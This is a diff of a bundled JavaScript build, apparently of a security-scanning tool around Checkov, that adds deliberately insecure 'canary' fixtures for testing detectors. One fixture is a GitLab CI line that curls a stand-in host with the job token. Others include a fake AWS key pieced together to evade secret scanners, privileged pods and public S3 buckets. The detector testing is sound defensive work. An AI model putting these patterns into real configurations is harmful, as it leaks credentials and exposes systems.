+    { id: 's3-public-access', title: 'The four settings of S3 Block Public Access.', concepts: s3PublicAccess },
+];
+
+;// CONCATENATED MODULE: ./build/js/tools/checkov/canary.js
+/** Put together here, so that no file of this repository looks as if it held a key. It belongs to nobody. */
+const madeUpKey = ['AKIA', 'QYLPMN5H', 'KQZT7W2X'].join('');
+const canary_canary = (format, expects, name, ...lines) => ({
+    format,
+    files: { [name]: `${lines.join('\n')}\n` },
+    expects,
+});
+const plannedBucket = { address: 'aws_s3_bucket.canary', mode: 'managed', type: 'aws_s3_bucket', name: 'canary' };
+const bucketValues = { bucket: 'gatehouse-canary', acl: 'public-read' };
+const plan = {
+    format_version: '1.2',
+    terraform_version: '1.9.0',
+    planned_values: { root_module: { resources: [{ ...plannedBucket, values: bucketValues }] } },
+    resource_changes: [{ ...plannedBucket, change: { actions: ['create'], before: null, after: bucketValues } }],
+    configuration: { root_module: { resources: [{ ...plannedBucket, expressions: {} }] } },
+};
+/** One for each format that Checkov reads. */
+const checkovCanaries = [
+    canary_canary('ansible', 'CKV_ANSIBLE_2', 'playbook.yml', '- name: Gatehouse canary', '  hosts: all', '  tasks:', '    - name: Download without looking at the certificate', '      ansible.builtin.get_url:', '        url: https://example.invalid/canary', '        dest: /opt/canary', '        validate_certs: false'),
+    canary_canary('argo-workflows', 'CKV_ARGO_1', 'workflow.yaml', 'apiVersion: argoproj.io/v1alpha1', 'kind: Workflow', 'metadata:', '  name: gatehouse-canary', 'spec:', '  entrypoint: canary', '  serviceAccountName: default', '  templates:', '    - name: canary', '      container:', '        image: canary'),
+    canary_canary('arm', 'CKV_AZURE_3', 'azuredeploy.json', '{', '  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",', '  "contentVersion": "1.0.0.0",', '  "resources": [', '    {', '      "type": "Microsoft.Storage/storageAccounts",', '      "apiVersion": "2023-01-01",', '      "name": "gatehousecanary",', '      "properties": { "supportsHttpsTrafficOnly": false }', '    }', '  ]', '}'),
+    canary_canary('azure-pipelines', 'CKV_AZUREPIPELINES_1', 'azure-pipelines.yml', 'trigger: none', 'jobs:', '  - job: canary', '    container: alpine:latest', '    steps:', '      - script: echo canary'),
+    canary_canary('bicep', 'CKV_AZURE_3', 'main.bicep', "resource canary 'Microsoft.Storage/storageAccounts@2023-01-01' = {", "  name: 'gatehousecanary'", '  properties: {', '    supportsHttpsTrafficOnly: false', '  }', '}'),
+    canary_canary('bitbucket-pipelines', 'CKV_BITBUCKETPIPELINES_1', 'bitbucket-pipelines.yml', 'image: atlassian/default-image:latest', 'pipelines:', '  default:', '    - step:', '        script:', '          - echo canary'),
+    canary_canary('circleci', 'CKV_CIRCLECIPIPELINES_1', '.circleci/config.yml', 'version: 2.1', 'jobs:', '  canary:', '    docker:', '      - image: cimg/base:latest', '    steps:', '      - run: echo canary'),
+    canary_canary('cloudformation', 'CKV_AWS_20', 'template.yaml', 'AWSTemplateFormatVersion: "2010-09-09"', 'Resources:', '  Canary:', '    Type: AWS::S3::Bucket', '    Properties:', '      AccessControl: PublicRead'),
+    canary_canary('dockerfile', 'CKV_DOCKER_8', 'Dockerfile', 'FROM scratch', 'EXPOSE 22', 'USER root'),
+    canary_canary('github-actions', 'CKV_GHA_1', '.github/workflows/canary.yml', 'name: Gatehouse canary', 'on: push', 'jobs:', '  canary:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo canary', '        env:', '          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"'),
+    canary_canary('gitlab-ci', 'CKV_GITLABCI_1', '.gitlab-ci.yml', 'canary:', '  image: alpine', '  script:', '    - curl "https://example.invalid/$CI_JOB_TOKEN"'),
+    canary_canary('kubernetes', 'CKV_K8S_16', 'pod.yaml', 'apiVersion: v1', 'kind: Pod', 'metadata:', '  name: gatehouse-canary', 'spec:', '  containers:', '    - name: canary', '      image: canary', '      securityContext:', '        privileged: true'),
+    canary_canary('openapi', 'CKV_OPENAPI_4', 'openapi.yaml', 'openapi: 3.0.0', 'info:', '  title: Gatehouse canary', '  version: 0.0.1', 'paths:', '  /canary:', '    get:', '      responses:', '        "200":', '          description: ok'),
+    canary_canary('secrets', 'CKV_SECRET_2', 'canary.yaml', `aws_access_key_id: ${madeUpKey}`),
+    canary_canary('serverless', 'CKV_AWS_20', 'serverless.yml', 'service: gatehouse-canary', 'provider:', '  name: aws', 'resources:', '  Resources:', '    Canary:', '      Type: AWS::S3::Bucket', '      Properties:', '        AccessControl: PublicRead'),
+    canary_canary('terraform', 'CKV_AWS_20', 'main.tf', 'resource "aws_s3_bucket" "canary" {', '  bucket = "gatehouse-canary"', '  acl    = "public-read"', '}'),
+    canary_canary('terraform-plan', 'CKV_AWS_20', 'tfplan.json', JSON.stringify(plan, undefined, 2)),
+];
 
 ;// CONCATENATED MODULE: ./build/js/core/document/document-json.js
 /** More of them say nothing new. */
@@ -56526,65 +58602,14 @@ function wordValue(text) {
 
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(38815);
-;// CONCATENATED MODULE: ./build/js/core/document/lines.js
-/**
- * What a line is, once for the whole project: it ends with `\n` or `\r\n`. A lone `\r` ends none, as in Go's and git's eyes.
- * A newline at the end of the text does not begin another line; the empty text is one empty line.
- */
-function linesOf(text) {
-    const lines = text.split('\n').map((line) => (line.endsWith('\r') ? line.slice(0, -1) : line));
-    if (text.endsWith('\n'))
-        lines.pop();
-    return lines;
-}
-/** Offset of the first character of each line, ascending; used with `lineAt`. */
-function lineStarts(text) {
-    const starts = [0];
-    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
-        starts.push(at + 1);
-    if (starts.length > 1 && starts.at(-1) === text.length)
-        starts.pop();
-    return starts;
-}
-/** The 1-based line that holds an offset; an offset past the end is on the last line. */
-function lineAt(starts, offset) {
-    let [low, high] = [0, starts.length - 1];
-    while (low < high) {
-        const middle = (low + high + 1) >> 1;
-        if ((starts[middle] ?? 0) <= offset)
-            low = middle;
-        else
-            high = middle - 1;
-    }
-    return low + 1;
-}
+;// CONCATENATED MODULE: ./build/js/core/document/compose-yaml.js
 
-;// CONCATENATED MODULE: ./build/js/core/document/document-yaml.js
-
-
-
-/** Reads YAML 1.2, any number of documents. What the library cannot bear (depth, floods of errors) is stopped while it streams. */
-function readYaml(text, limits) {
-    const source = { text, starts: lineStarts(text) };
-    const complaints = [];
-    const documents = [];
-    try {
-        for (const composed of compose(text, limits, complaints))
-            documents.push(documentOf(composed, source));
-    }
-    catch {
-        // A fault in the library on some odd input must not take the run with it; the file counts as not understood.
-        complaints.push({ code: 'syntax', message: 'This YAML cannot be read.', offset: 0 });
-    }
-    const own = complaints.map((complaint) => problemOf(complaint, source));
-    const problems = [...documents.flatMap((document) => document.problems), ...own];
-    return { documents, problems: problems.sort((a, b) => a.line - b.line || a.column - b.column) };
-}
-const options = { uniqueKeys: false, prettyErrors: false, logLevel: 'silent', schema: 'core' };
+/** More errors than this nobody reads. */
 const mostErrors = 20;
+const compose_yaml_options = { uniqueKeys: false, prettyErrors: false, logLevel: 'silent', schema: 'core' };
 /** Feeds the library lexeme by lexeme, so that it can be stopped early, and hands on each document as it is complete. */
 function* compose(text, limits, complaints) {
-    const [parser, composer] = [new dist/* Parser */.iX(), new dist/* Composer */.Dk(options)];
+    const [parser, composer] = [new dist/* Parser */.iX(), new dist/* Composer */.Dk(compose_yaml_options)];
     const meter = createMeter(limits);
     for (const lexeme of new dist/* Lexer */.JG().lex(text)) {
         const stop = meter.take(lexeme, parser.stack.length);
@@ -56643,24 +58668,45 @@ function createMeter({ depth, nodes, documents }) {
         },
     };
 }
-function problemOf({ code, message, offset }, { starts }) {
-    const line = lineAt(starts, offset);
-    return { code, message, line, column: offset - (starts[line - 1] ?? 0) + 1 };
+
+;// CONCATENATED MODULE: ./build/js/core/document/lines.js
+/**
+ * What a line is, once for the whole project: it ends with `\n` or `\r\n`. A lone `\r` ends none, as in Go's and git's eyes.
+ * A newline at the end of the text does not begin another line; the empty text is one empty line.
+ */
+function linesOf(text) {
+    const lines = text.split('\n').map((line) => (line.endsWith('\r') ? line.slice(0, -1) : line));
+    if (text.endsWith('\n'))
+        lines.pop();
+    return lines;
 }
-function documentOf(composed, source) {
-    const tree = createTree(source);
-    const root = composed.contents === null ? undefined : tree.nodeOf(composed.contents, composed.range[0]);
-    const errors = composed.errors
-        .slice(0, mostErrors)
-        .map((error) => problemOf({ code: 'syntax', message: `${error.message}.`.replace(/\.\.$/, '.'), offset: error.pos[0] }, source));
-    const isEmpty = root?.kind === 'scalar' && root.value === null && root.text === '';
-    return {
-        root: isEmpty ? undefined : root,
-        aliases: tree.aliases,
-        aliased: tree.aliased,
-        problems: [...errors, ...tree.problems],
-    };
+/** Offset of the first character of each line, ascending; used with `lineAt`. */
+function lineStarts(text) {
+    const starts = [0];
+    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
+        starts.push(at + 1);
+    if (starts.length > 1 && starts.at(-1) === text.length)
+        starts.pop();
+    return starts;
 }
+/** The 1-based line that holds an offset; an offset past the end is on the last line. */
+function lineAt(starts, offset) {
+    let [low, high] = [0, starts.length - 1];
+    while (low < high) {
+        const middle = (low + high + 1) >> 1;
+        if ((starts[middle] ?? 0) <= offset)
+            low = middle;
+        else
+            high = middle - 1;
+    }
+    return low + 1;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/document/yaml-tree.js
+
+
+
+
 /** More values than any program can bear; also what an alias inside its own anchor stands for. */
 const endless = 1e12;
 /** Turns the library's nodes into ours. Recursion is as deep as the limit lets the parser go. */
@@ -56756,6 +58802,46 @@ function positionOf({ text, starts }, range, at) {
     };
 }
 
+;// CONCATENATED MODULE: ./build/js/core/document/document-yaml.js
+
+
+
+/** Reads YAML 1.2, any number of documents. What the library cannot bear (depth, floods of errors) is stopped while it streams. */
+function readYaml(text, limits) {
+    const source = { text, starts: lineStarts(text) };
+    const complaints = [];
+    const documents = [];
+    try {
+        for (const composed of compose(text, limits, complaints))
+            documents.push(documentOf(composed, source));
+    }
+    catch {
+        // A fault in the library on some odd input must not take the run with it; the file counts as not understood.
+        complaints.push({ code: 'syntax', message: 'This YAML cannot be read.', offset: 0 });
+    }
+    const own = complaints.map((complaint) => problemOf(complaint, source));
+    const problems = [...documents.flatMap((document) => document.problems), ...own];
+    return { documents, problems: problems.sort((a, b) => a.line - b.line || a.column - b.column) };
+}
+function problemOf({ code, message, offset }, { starts }) {
+    const line = lineAt(starts, offset);
+    return { code, message, line, column: offset - (starts[line - 1] ?? 0) + 1 };
+}
+function documentOf(composed, source) {
+    const tree = createTree(source);
+    const root = composed.contents === null ? undefined : tree.nodeOf(composed.contents, composed.range[0]);
+    const errors = composed.errors
+        .slice(0, mostErrors)
+        .map((error) => problemOf({ code: 'syntax', message: `${error.message}.`.replace(/\.\.$/, '.'), offset: error.pos[0] }, source));
+    const isEmpty = root?.kind === 'scalar' && root.value === null && root.text === '';
+    return {
+        root: isEmpty ? undefined : root,
+        aliases: tree.aliases,
+        aliased: tree.aliased,
+        problems: [...errors, ...tree.problems],
+    };
+}
+
 ;// CONCATENATED MODULE: ./build/js/core/document/document.js
 
 
@@ -56829,1172 +58915,122 @@ function document_tree_positionOf(root, path) {
     return position;
 }
 
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/placed.js
-
-
-/** Far more than people write: what is longer is an accident or an attack. */
-const limits = { length: 262_144, depth: 16, nodes: 20_000, documents: 100 };
-/** Reads one document of YAML or JSON. Aliases are refused: a policy says what it says where it says it. */
-function readPlaced(text) {
-    const { documents, problems } = readDocuments(text, limits);
-    const found = [...problems.map(toProblem), ...refuseAliases(documents), ...refuseOthers(documents)];
-    if (!isUnderstood({ problems }) || found.length > problems.length)
-        return { problems: found };
-    const root = documents[0]?.root;
-    const placeOf = (path) => {
-        const position = document_tree_positionOf(root, path);
-        return { line: position?.startLine ?? 1, column: position?.column ?? 1 };
-    };
-    return { document: { value: plainOf(root), placeOf }, problems: found };
-}
-const toProblem = ({ line, column, message, code }) => ({
-    line,
-    column,
-    sentence: message,
-    ...(code === 'syntax' ? { hint: 'The file has to be valid YAML or JSON.' } : {}),
-});
-const refuseAliases = (documents) => documents
-    .flatMap((document) => document.aliases)
-    .map(({ startLine, column }) => ({
-    line: startLine,
-    column,
-    sentence: 'Aliases are not read here.',
-    hint: 'Write the value out, so that everybody sees what it is.',
-}));
-function refuseOthers(documents) {
-    const second = documents[1];
-    if (second === undefined)
-        return [];
-    const { startLine: line, column } = second.root ?? { startLine: 1, column: 1 };
-    return [{ line, column, sentence: 'This is a second document; one file holds one.', hint: 'Remove the line `---`.' }];
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/problem.js
-
-/** More than a person reads; the rest is counted. */
-const mostProblems = 50;
-/** In the order of file names and lines; a flood is cut and counted. */
-function orderProblems(problems) {
-    const sorted = [...problems].sort((a, b) => compareAll(order_compareText(a.file ?? '', b.file ?? ''), a.line - b.line, a.column - b.column));
-    const last = sorted[mostProblems];
-    if (last === undefined)
-        return sorted;
-    const left = sorted.length - mostProblems;
-    return [
-        ...sorted.slice(0, mostProblems),
-        { ...placeOnly(last), sentence: `Problems from here on are only counted: ${left}.` },
-    ];
-}
-const placeOnly = ({ file, line, column }) => ({ ...(file === undefined ? {} : { file }), line, column });
-
-;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/iso.js
-
-
-
-function iso_datetime(params) {
-    return _isoDateTime(ZodISODateTime, params);
-}
-function iso_date(params) {
-    return _isoDate(ZodISODate, params);
-}
-function iso_time(params) {
-    return core._isoTime(ZodISOTime, params);
-}
-function iso_duration(params) {
-    return core._isoDuration(ZodISODuration, params);
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/glob.js
-/** At most two groups of two to eight alternatives, not nested: what is longer is said by a list. */
-const bracesPattern = /^[^{}]*(?:\{[^{},]*(?:,[^{},]*){1,7}\}[^{}]*){0,2}$/u;
-/** True for a text that any of the globs matches. Compile once, use for every finding. */
-function compileGlobs(globs) {
-    const compiled = globs.flatMap((glob) => expandBraces(glob.normalize('NFC'))).map(toParts);
-    return (text) => {
-        const parts = text.normalize('NFC').split('/');
-        return compiled.some((glob) => matches(glob, parts, anyParts, fitsPart));
-    };
-}
-function expandBraces(glob) {
-    const open = glob.indexOf('{');
-    const close = glob.indexOf('}', open);
-    if (open < 0 || close < 0)
-        return [glob];
-    const tails = expandBraces(glob.slice(close + 1));
-    const alternatives = glob.slice(open + 1, close).split(',');
-    return alternatives.flatMap((middle) => tails.map((tail) => glob.slice(0, open) + middle + tail));
-}
-const anyParts = Symbol('**');
-function toParts(glob) {
-    const parts = glob.split('/');
-    const isInside = parts.length > 1 && parts.at(-1) === '**';
-    return [...parts, ...(isInside ? ['*'] : [])].map((part) => (part === '**' ? anyParts : compilePart(part)));
-}
-function compilePart(part) {
-    if (part === '*')
-        return () => true;
-    if (!/[*?]/.test(part))
-        return (text) => text === part;
-    const characters = part.replace(/\*+/g, '*').split('');
-    return (text) => matches(characters, text, '*', fitsCharacter);
-}
-const fitsPart = (part, text) => part !== anyParts && part(text);
-const fitsCharacter = (wanted, character) => wanted === '?' || wanted === character;
-/**
- * The classic two-pointer match: a star first takes nothing and, when the rest fails, one item more. Only the last
- * star has to be tried again, since taking as little as possible for those before it leaves the most for the rest.
- */
-function matches(glob, texts, star, fits) {
-    let at = 0;
-    let lastStar = -1;
-    let taken = 0;
-    for (let next = 0; next < texts.length;) {
-        const item = glob[at];
-        if (item === star) {
-            lastStar = at++;
-            taken = next;
-        }
-        else if (item !== undefined && fits(item, texts[next] ?? '')) {
-            at++;
-            next++;
-        }
-        else if (lastStar >= 0) {
-            at = lastStar + 1;
-            next = ++taken;
-        }
-        else
-            return false;
-    }
-    while (glob[at] === star)
-        at++;
-    return at === glob.length;
-}
-
-;// CONCATENATED MODULE: ./build/js/core/policy/comparison.js
-
-
-
-
-const oneOf = (values) => {
-    const wanted = new Set(values);
-    return (text) => wanted.has(text);
-};
-/** `high` alone, or `>=high` and `<=high`; `>` and `<` are left out, because `>critical` would never match. */
-const severityConditions = ['', '>=', '<='].flatMap((operator) => severities.map((severity) => operator + severity));
-const fitsSeverity = (condition, severity) => {
-    const bound = condition.replace(/^[<>]=/, '');
-    if (!isSeverity(bound) || !isSeverity(severity))
-        return false;
-    if (condition.startsWith('>='))
-        return isAtLeast(severity, bound);
-    return condition.startsWith('<=') ? isAtLeast(bound, severity) : severity === bound;
-};
-/** One demand at a time: a text that fails the first is not told the others. */
-const demand = (error) => ({ error, abort: true });
-const glob = () => schemas_string()
-    .regex(/^[^\p{Cc}]{1,256}$/u, demand('be 1 to 256 characters on one line'))
-    .regex(/^(?!!)/u, demand('say what it means, since a glob cannot be turned round with `!`'))
-    .regex(bracesPattern, demand('use braces as in `{a,b}`: at most two groups, each of two to eight words, none in another'));
-/** A glob for files; also the values of `exclude`. */
-const pathGlob = glob().regex(/^(?!\/|\.{1,2}\/)(?!.*\/$)[^\\]*$/u, demand('be files seen from the root of the scan, such as `infra/prod/**`'));
-/** In a key such as `["a/b"]` a slash separates nothing, so that `*` stands for any key. */
-const withoutKeySlashes = (address) => address.replace(/\["[^"]*"\]/g, (key) => key.replaceAll('/', '\u001f'));
-/** purls encode what names spell out: `pkg:npm/%40acme/ui` is `pkg:npm/@acme/ui`. */
-const decoded = (purl) => {
-    try {
-        return decodeURIComponent(purl);
-    }
-    catch {
-        return purl;
-    }
-};
-const globsThrough = (normalise) => (globs) => {
-    const matches = compileGlobs(globs.map(normalise));
-    return (text) => matches(normalise(text));
-};
-const comparisons = {
-    kind: { schema: () => schemas_enum(kinds), compile: oneOf, docs: `one of ${kinds.join(', ')}` },
-    severity: {
-        schema: () => schemas_enum(severityConditions),
-        compile: (conditions) => oneOf(severities.filter((severity) => conditions.some((one) => fitsSeverity(one, severity)))),
-        docs: `${severities.join(', ')}; with \`>=\` or \`<=\``,
-    },
-    rule: {
-        schema: () => schemas_string().regex(/^[^\p{Cc}*]{1,200}$/u, 'name one rule, without wildcards'),
-        compile: (ids, names) => oneOf(ids.flatMap((id) => [id, ...names.canonicalRules(id)])),
-        docs: 'exact',
-    },
-    concept: {
-        schema: () => schemas_string().regex(/^[a-z0-9-]{1,100}$/u, 'be the name of a concept, such as `s3-block-public-acls`'),
-        compile: oneOf,
-        docs: 'exact',
-    },
-    tool: { schema: (names) => schemas_enum(names.tools), compile: oneOf, docs: 'name of a tool' },
-    format: { schema: (names) => schemas_enum(names.formats), compile: oneOf, docs: 'name of a format' },
-    path: { schema: () => pathGlob, compile: globsThrough((path) => path), docs: 'glob' },
-    address: { schema: () => glob(), compile: globsThrough(withoutKeySlashes), docs: 'glob' },
-    package: {
-        schema: () => glob().regex(/^(?!.*[^/]@)/u, demand('name the package without its version')),
-        compile: globsThrough(decoded),
-        docs: 'glob',
-    },
-    id: {
-        schema: () => schemas_string().regex(/^[0-9a-f]{8,32}$/u, 'be 8 to 32 of the digits 0-9 and a-f, as a report shows it'),
-        compile: (ids) => (hash) => ids.some((id) => hash.startsWith(id)),
-        docs: 'first digits',
-    },
-};
-const comparisonOf = (name) => comparisons[name];
-
-;// CONCATENATED MODULE: ./build/js/core/policy/match-key.js
-/**
- * The one table of match keys. Types, decoding, JSON Schema, the reference in docs/policy.md and matching are made from
- * it: to add a key, add an entry. An entry that reads no field of a finding does not compile.
- */
-const matchKeys = [
-    {
-        key: 'kind',
-        reads: ['kind'],
-        compares: 'kind',
-        docs: 'What sort of finding it is.',
-        example: 'vulnerability',
-    },
-    {
-        key: 'severity',
-        reads: ['severity'],
-        compares: 'severity',
-        docs: 'How bad it is: one severity, or that one and everything above (`>=`) or below (`<=`) it.',
-        example: '">=high"',
-    },
-    {
-        key: 'rule',
-        reads: ['rule.id', 'rule.concept', 'sources.ruleId', 'advisory.ids'],
-        compares: 'rule',
-        docs: 'A rule by any of its names: concept, id in any tool, older id of the same rule, or advisory (CVE, GHSA).',
-        example: 'CKV_AWS_20',
-        narrows: 'what',
-    },
-    {
-        key: 'concept',
-        reads: ['rule.concept'],
-        compares: 'concept',
-        docs: 'One control, whatever each tool calls it.',
-        example: 's3-block-public-acls',
-        narrows: 'what',
-    },
-    {
-        key: 'tool',
-        reads: ['sources.tool'],
-        compares: 'tool',
-        docs: 'A tool that reports it; others may report it too.',
-        example: 'checkov',
-    },
-    {
-        key: 'path',
-        reads: ['place.path', 'place.related.path'],
-        compares: 'path',
-        docs: 'The file, from the root of the scan, or a file that leads to it, such as the caller of a module.',
-        example: '"infra/prod/**"',
-        narrows: 'where',
-    },
-    {
-        key: 'format',
-        reads: ['subject.resource.format'],
-        compares: 'format',
-        docs: 'The format of the file that holds the resource.',
-        example: 'terraform',
-    },
-    {
-        key: 'resource',
-        reads: ['subject.resource.address', ['subject.resource.type', 'subject.resource.address']],
-        compares: 'address',
-        docs: 'The address of the resource, alone or as `type.address`. Brackets mean themselves.',
-        example: '"module.site.aws_s3_bucket.*"',
-        narrows: 'where',
-    },
-    {
-        key: 'package',
-        reads: ['subject.package.purl', 'subject.package.name'],
-        compares: 'package',
-        docs: 'The package, by its purl or its name, both without a version.',
-        example: '"pkg:npm/lodash"',
-        narrows: 'where',
-    },
-    {
-        key: 'id',
-        reads: ['identity.logical', 'identity.also'],
-        compares: 'id',
-        docs: 'The id that a report shows for one finding: 8 or more hex digits.',
-        example: '"7f3a91c2"',
-        narrows: 'what',
-        waiversOnly: true,
-    },
-];
-/** The same table, each entry seen as what all entries have. */
-const allMatchKeys = matchKeys;
-const ruleMatchKeys = allMatchKeys.filter((entry) => entry.waiversOnly !== true);
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/quantity.js
-
-const millisecondsIn = { s: 1000, m: 60_000, h: 3_600_000 };
-const bytesIn = { m: 2 ** 20, g: 2 ** 30 };
-const scaled = (text, units) => Number(text.slice(0, -1)) * (units[text.slice(-1)] ?? Number.NaN);
-/** `90s`, `10m`, `2h`, at most about a day; decoded to milliseconds. */
-const durationSchema = schemas_string()
-    .regex(/^(?:[1-9]\d{0,4}s|[1-9]\d{0,2}m|(?:[1-9]|1\d|2[0-4])h)$/u, 'be a number and a unit, such as 90s, 10m or 2h, and at most 24h')
-    .transform((text) => scaled(text, millisecondsIn));
-/** `512m`, `4g` (binary units), from 100m to 999g; decoded to bytes. */
-const memorySchema = schemas_string()
-    .regex(/^(?:[1-9]\d{2,5}m|[1-9]\d{0,2}g)$/u, 'be a number and a unit, such as 512m or 4g, and at least 100m')
-    .transform((text) => scaled(text, bytesIn));
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema.js
-
-
-
-
-
-
-
-
-/** Lists and maps of people are short; longer ones are attacks on time and memory. */
-const mostItems = 500;
-/** zod hands only text from a schema to its issue, so the text is the list of the keys that would have been right. */
-const knownKeys = (keys) => (issue) => issue.code === 'unrecognized_keys' ? keys.join(' ') : undefined;
-const schema_closed = (shape) => strictObject(shape, { error: knownKeys(Object.keys(shape)) });
-/** Text for people: no control characters but line breaks and tabs, and not only white space. */
-const prose = schemas_string()
-    .regex(/^(?=[\s\S]*\S)[^\u0000-\u0008\u000b-\u001f\u007f]{1,2000}$/u, 'be a text of 1 to 2000 characters');
-const line = schemas_string().regex(/^(?=.*\S)[^\p{Cc}]{1,200}$/u, 'be one line of 1 to 200 characters');
-const id = schemas_string()
-    .regex(/^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/u, 'be 1 to 64 letters, digits, `.`, `_` or `-`, and start with a letter or digit');
-const schema_url = schemas_string().regex(/^https?:\/\/[^\s\p{Cc}]{1,500}$/u, 'be an address that starts with https:// or http://');
-/** A waiver for `**` names no place. */
-const narrow = schemas_string().regex(/[^*?/.{},]/u, 'name something: wildcards alone fit everything');
-const matchValues = (entry, names, forWaiver) => {
-    const one = comparisonOf(entry.compares).schema(names);
-    const item = forWaiver && entry.narrows === 'where' ? one.and(narrow) : one;
-    return union([item, array(item).min(1).max(mostItems)]).transform((value) => [value].flat());
-};
-const matchSchema = (entries, names, forWaiver) => schema_closed(Object.fromEntries(entries.map((entry) => [entry.key, matchValues(entry, names, forWaiver).describe(entry.docs).exactOptional()])));
-const ruleMatch = (names) => matchSchema(ruleMatchKeys, names, false)
-    .refine((match) => Object.keys(match).length > 0, 'say what it matches')
-    .meta({ minProperties: 1 });
-const keysThatName = (narrows) => allMatchKeys.filter((entry) => entry.narrows === narrows).map((entry) => entry.key);
-/** Zod's checks wait for a sound value; these look at keys alone, so they need not. */
-const always = { when: () => true };
-const hasAny = (value, keys) => typeof value !== 'object' || value === null || keys.some((key) => Object.hasOwn(value, key));
-const schema_required = (keys) => ({ anyOf: keys.map((key) => ({ required: [key] })) });
-const waiverMatch = (names) => {
-    const [what, where] = [keysThatName('what'), keysThatName('where')];
-    return matchSchema(allMatchKeys, names, true)
-        .refine((match) => hasAny(match, what), { ...always, error: `say what is waived: ${alternatives(what)}` })
-        .refine((match) => hasAny(match, where), { ...always, error: `say where: ${alternatives(where)}` })
-        .meta({ allOf: [schema_required(what), schema_required(where)] });
-};
-const schema_toolSchema = union([
-    literal('off')
-        .or(literal(false))
-        .transform(() => ({ off: true })),
-    schema_closed({ timeout: durationSchema.exactOptional(), memory: memorySchema.exactOptional() }).transform((tool) => ({
-        off: false,
-        ...(tool.timeout === undefined ? {} : { timeoutMs: tool.timeout }),
-        ...(tool.memory === undefined ? {} : { memoryBytes: tool.memory }),
-    })),
-]);
-const toolsSchema = (names) => schema_closed(Object.fromEntries(names.tools.map((tool) => [tool, schema_toolSchema.exactOptional()])));
-const checkFolder = schemas_string()
-    .regex(/^\.gatehouse\/(?!waivers(?:\/|$))(?!(?:[^/]+\/)*\.{1,2}(?:\/|$))[^\p{Cc}\\/]+(?:\/[^\p{Cc}\\/]+)*$/u, 'be a folder below `.gatehouse/`, such as `.gatehouse/checks/trivy`');
-const checksSchema = ({ checkTools = [] }) => schema_closed(Object.fromEntries(checkTools.map((tool) => [tool, checkFolder.exactOptional()])));
-const settingsSchema = schema_closed({
-    'on-tool-error': schemas_enum(toolErrorActions)
-        .describe('The verdict when a planned tool did not complete.')
-        .exactOptional(),
-    'on-unscanned': schemas_enum(unscannedActions).describe('What a file that no tool looked at means.').exactOptional(),
-    'unknown-severity': schemas_enum(severities).describe('For findings without a vendor severity.').exactOptional(),
-    'inline-skips': schemas_enum(inlineSkipActions)
-        .describe('What a comment in a file may lift: warnings and notes, blocks too, or nothing.')
-        .exactOptional(),
-});
-const ruleSchema = (names) => schema_closed({
-    id,
-    match: ruleMatch(names).describe('Every key has to fit, and of a list one value.'),
-    action: schemas_enum(ruleActions),
-    why: prose.describe('The reason, printed with every finding the rule decides.').exactOptional(),
-    how: schema_closed({ text: prose, url: schema_url.exactOptional() }).describe('How to put it right.').exactOptional(),
-});
-/** `.gatehouse/policy.yml` as it is written; decoded values, the file's own key names. */
-const policySchema = (names) => schema_closed({
-    version: literal(1),
-    mode: schemas_enum(modes).describe('Tell only, or fail the step.').exactOptional(),
-    block: array(schemas_enum(floorNames)).max(mostItems).describe('What blocks when no rule decides.').exactOptional(),
-    exclude: array(pathGlob).max(mostItems).describe('Files that are not looked at.').exactOptional(),
-    tools: toolsSchema(names).describe('Switches and limits of the tools.').exactOptional(),
-    checks: checksSchema(names).describe("Folders with the repository's own checks, per tool.").exactOptional(),
-    contact: line.describe('Whom to ask; printed with errors and exceptions.').exactOptional(),
-    settings: settingsSchema.exactOptional(),
-    rules: array(ruleSchema(names)).max(mostItems).describe('The first that matches decides.').exactOptional(),
-});
-/** One waiver as it is written. */
-const waiverSchema = (names) => schema_closed({
-    id,
-    match: waiverMatch(names).describe('Which finding, and where.'),
-    reason: prose.describe('Why this is acceptable.'),
-    owner: line.describe('Who answers for it.'),
-    expires: iso_date('be a day of the calendar, written as 2027-03-31')
-        .describe('The last day on which it holds, UTC.'),
-});
-
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/did-you-mean.js
-/** Longer words are not compared: nobody mistypes a word of that length by accident. */
-const longest = 64;
-/** The candidate that is nearest to a mistyped word; `undefined` when none is near enough to be what was meant. */
-function didYouMean(word, candidates) {
-    if (word.length > longest)
+;// CONCATENATED MODULE: ./build/js/core/document/garbled.js
+/** Bytes that are no UTF-8 are decoded to the replacement character, and NUL is in no text that people write. */
+const garbage = /[\u0000\uFFFD]/;
+/** The first place where a text is none; `undefined` when all of it is. */
+function findGarbled(text) {
+    const index = text.search(garbage);
+    if (index < 0)
         return undefined;
-    const wanted = word.toLowerCase();
-    const most = Math.max(1, Math.floor(wanted.length / 3));
-    let best;
-    for (const candidate of candidates) {
-        const distance = editDistance(wanted, candidate.toLowerCase(), most);
-        if (distance <= most && (best === undefined || distance < best.distance))
-            best = { candidate, distance };
+    return {
+        ...placeAt(text, index),
+        sentence: text[index] === '\0' ? 'There is a NUL here, which no text has.' : 'What is here is not UTF-8.',
+        hint: 'Save the file as UTF-8.',
+    };
+}
+/** Line and column of an index, from 1. */
+function placeAt(text, index) {
+    const before = text.slice(0, index);
+    const start = before.lastIndexOf('\n') + 1;
+    return { line: before.split('\n').length, column: index - start + 1 };
+}
+
+;// CONCATENATED MODULE: ./build/js/tools/checkov/check-mistakes.js
+
+
+
+/** Far more than a check says: a text that means more is a bomb, which Checkov would write out. */
+const limits = { length: 1_048_576, depth: 60, nodes: 50_000, documents: 2 };
+/** What YAML 1.2 refuses and Checkov's reader takes. */
+const lenient = /sufficiently indented|Comments must be separated/;
+/** As many brackets are closed as are open. */
+const isClosed = (text) => ['{}', '[]'].every(([open = '', close = '']) => text.split(open).length === text.split(close).length);
+/**
